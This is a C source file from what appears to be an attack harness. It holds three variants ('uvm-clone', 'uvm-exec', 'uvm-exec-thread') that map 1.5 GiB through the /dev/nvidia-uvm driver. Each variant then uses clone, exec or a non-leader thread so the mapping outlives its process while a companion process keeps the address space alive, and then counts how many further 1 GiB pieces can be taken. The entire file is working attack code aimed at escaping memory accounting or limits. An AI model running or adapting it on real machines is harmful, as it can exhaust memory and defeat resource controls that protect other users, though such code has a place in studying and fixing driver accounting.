/* Managed memory in an address space that outlives the process that mapped it. */
#include "attack.h"

#include <sched.h>
#include <signal.h>

#define PLACE ((void *) 0x700000000000u)

static int file, error;
static uint8_t stacks[3][65536] __attribute__ ((aligned (16)));

static void map_there (void)
{
    void *place = mmap (PLACE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, file,
                        (off_t) (uintptr_t) PLACE);

    error = place == MAP_FAILED ? errno : 0;
}

static int map_and_end (void *argument)
{
    (void) argument;
    map_there ();
    _exit (0);
}

static int stay (void *argument)
{
    (void) argument;
    for (;;)
        pause ();
    return 0;
}

static int execute (void *argument)
{
    (void) argument;
    execl ("/proc/self/exe", "attack", "idle", (char *) NULL);
    _exit (6);
}

static pid_t start (int (*function) (void *), unsigned number, int flags)
{
    return clone (function, stacks[number] + sizeof (stacks[number]), flags, NULL);
}

static void tell (int to)
{
    if (write (to, &error, sizeof (error)) != sizeof (error))
        _exit (5);
}

static void leave_to_parent (int to)
{
    waitpid (start (map_and_end, 0, CLONE_VM | CLONE_FILES | SIGCHLD), NULL, 0);
    tell (to);
    stay (NULL);
}

static void leave_to_child (int to)
{
    map_there ();
    start (stay, 0, CLONE_VM | SIGCHLD);
    tell (to);
    execute (NULL);
}

static void leave_to_child_by_thread (int to)
{
    map_there ();
    start (stay, 0, CLONE_VM | SIGCHLD);
    tell (to);
    start (execute, 1, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD);
    stay (NULL);
}

/* A process without a client maps 1.5 GiB, and then ends or executes something, while another one without a client lives on in its
 * address space. How many pieces of 1 GiB can be had beside that? */
static void attack_left (void (*leave) (int to))
{
    uint64_t initialize[2] = { 0, 0xffff };
    struct bed bed = bed_open ();
    int told[2], said = 0;

    if (pipe (told) != 0)
        exit (4);
    pid_t child = fork ();
    if (child == 0) {
        setpgid (0, 0);
        /* The driver takes mappings only in the address space whose process said so first. */
        file = open ("/dev/nvidia-uvm", O_RDWR);
        if (file < 0 || ioctl (file, 0x30000001, initialize) != 0 || initialize[1] != 0)
            _exit (4);
        leave (told[1]);
        _exit (5);
    }
    close (told[1]);
    if (read (told[0], &said, sizeof (said)) != sizeof (said))
        exit (5);
    say ("mapped", (uint64_t) said);
    let_it_be_seen ();
    say ("pieces", bed_fill (&bed));
    kill (-child, SIGKILL);
    waitpid (child, NULL, 0);
    hold ();
}

/* uvm-clone: by a child that ends (CLONE_VM); its parent stays. */
void attack_uvm_clone (int argc, char **argv)
{
    (void) argc, (void) argv;
    attack_left (leave_to_parent);
}

/* uvm-exec: by a parent that executes something; its child stays. */
void attack_uvm_exec (int argc, char **argv)
{
    (void) argc, (void) argv;
    attack_left (leave_to_child);
}

/* uvm-exec-thread: the same, and it is not the first thread that executes. */
void attack_uvm_exec_thread (int argc, char **argv)
{
    (void) argc, (void) argv;
    attack_left (leave_to_child_by_thread);
}

/* What they execute. */
void attack_idle (int argc, char **argv)
{
    (void) argc, (void) argv;
    stay (NULL);
}
